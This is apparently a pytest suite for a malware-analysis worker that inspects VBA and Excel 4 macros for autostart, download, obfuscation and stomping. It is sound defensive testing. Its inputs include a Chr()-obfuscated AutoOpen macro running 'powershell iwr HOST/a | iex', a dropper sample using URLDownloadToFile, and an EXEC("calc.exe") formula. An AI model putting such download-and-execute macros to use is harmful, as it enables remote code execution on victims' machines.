"""The worker `documents` reads macros of VBA and of Excel 4, and judges their acts."""

import pytest

from samplebank.worker.analysers.documents.vba_source import unpacked
from samplebank.worker.contract import NO_FINDINGS
from worker import made_documents as made
from worker.conftest import Extract
from worker.documents import DROPPER, WORKBOOKS, evidence, found, tags
from worker.made_containers import zipped
from worker.made_images import compound

CLEAN_MACRO = 'Sub Total()\r\nRange("A1").Value = 7\r\nEnd Sub'


@pytest.mark.parametrize("make", [made.docm, made.text_with_macros], ids=["docm", "doc"])
async def test_the_source_of_macros_is_evidence_and_their_acts_are_findings(
    documents: Extract, make: object
) -> None:
    result = await documents(make(Main=DROPPER))  # type: ignore[operator]

    assert DROPPER in evidence(result, "macros.vba")
    assert found(result) >= {"macros", "macro-autostart", "macro-runs-programs", "macro-downloads"}
    assert result.score >= 70
    assert {"macro", "downloader", "attack.t1059.005", "attack.t1105"} <= tags(result)
    (macro,) = result.result["macros"]
    assert (macro["name"], macro["autostart"]) == ("Main", ["AutoOpen"])
    assert result.result["iocs"]["urls"][0]["defanged"] == "hxxp://203[.]0[.]113[.]7/x"


async def test_rules_scan_the_source_of_macros(documents: Extract) -> None:
    eicar = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR" + "-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"

    result = await documents(made.docm(Main=eicar))

    (rule,) = result.result["rules"]
    assert (rule["where"], result.score) == ("macros", rule["score"])
    assert rule["rule"] in {tag.value for tag in result.tags if tag.type == "yara"}


STARTING = {"AutoOpen", "auto_open", "Workbook_Open", "Document_Close", "InkPicture1_Painted"}


@pytest.mark.parametrize("name", sorted({*STARTING, "File_Open", "CommandButton1_Click", "UserForm_Layout"}))
async def test_only_names_that_run_by_themselves_are_told(documents: Extract, name: str) -> None:
    result = await documents(made.docm(Main=f"Private Sub {name}()\r\nx = 1\r\nEnd Sub"))

    assert ("macro-autostart" in found(result)) == (name in STARTING)


async def test_what_a_macro_hides_is_peeled(documents: Extract) -> None:
    order = f"powershell iwr {made.HOST}/a | iex"
    codes = " & ".join(f"Chr({ord(character)})" for character in order)

    result = await documents(
        made.docm(Main=f"Sub AutoOpen()\r\nx = {codes}\r\nCallByName o, f, 1, x\r\nEnd Sub")
    )

    assert order in evidence(result, "macros-peeled.txt")
    assert found(result) >= {"macro-autostart", "macro-is-disguised", "macro-runs-programs"}
    assert result.result["iocs"]["urls"][0]["value"] == f"{made.HOST}/a"


async def test_a_macro_that_does_nothing_of_note_gets_no_score(documents: Extract) -> None:
    result = await documents(made.docm(Main=CLEAN_MACRO))

    assert (result.score, found(result)) == (NO_FINDINGS, {"macros"})


async def test_words_that_only_the_compiled_macro_has_tell_of_stomping(documents: Extract) -> None:
    streams = made.project({"Main": CLEAN_MACRO}, compiled=b"\0Shell\0\0AutoOpen\0\0CreateObject\0")

    result = await documents(zipped({**made.TYPES, "word/vbaProject.bin": compound(streams)}))

    assert "macro-is-stomped" in found(result)


async def test_macros_of_a_damaged_project_are_found_by_their_first_bytes(documents: Extract) -> None:
    streams = made.project({"Main": DROPPER})
    streams["VBA/dir"] = b"\xff" * 100

    result = await documents(compound({"WordDocument": b"\xec\xa5" + bytes(30), **streams}))

    assert "URLDownloadToFile" in evidence(result, "macros.vba")


def test_the_example_of_the_specification_is_unpacked() -> None:
    container = bytes.fromhex(
        "012FB00023616161626364658266007061676869 6A013808616B6C00306D6E6F700671027004107273747576107778797A003C"
    )

    assert unpacked(container) == b"#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa"


@pytest.mark.parametrize("kind", WORKBOOKS)
async def test_excel_4_macros_are_spelled(documents: Extract, kind: str) -> None:
    result = await documents(WORKBOOKS[kind])

    (cell,) = result.result["excel4"]["cells"]
    assert cell["formula"] == '=EXEC("calc.exe")'
    assert cell["cell"] == ("A1" if kind == "xlsm" else "B3")
    assert found(result) >= {"excel4-macros", "excel4-autostart", "excel4-runs-programs"}
    assert ("excel4-hidden-sheet" in found(result)) == (kind == "hidden xls")
    assert result.score >= 70
    assert '=EXEC("calc.exe")' in evidence(result, "excel4.txt")


async def test_a_command_of_excel_4_is_spelled_by_its_name(documents: Extract) -> None:
    result = await documents(made.xls(made.call(made.ALERT | made.COMMAND, "hello", "1")))

    assert result.result["excel4"]["cells"][0]["formula"] == '=ALERT("hello","1")'


async def test_a_formula_names_what_it_refers_to_where_two_sheets_have_a_name_alike(
    documents: Extract,
) -> None:
    third = b"\x23" + (3).to_bytes(4, "little")

    result = await documents(made.xlsb(third, names=("Same", "Same", "Third")))

    assert result.result["excel4"]["cells"][0]["formula"] == "=Third"
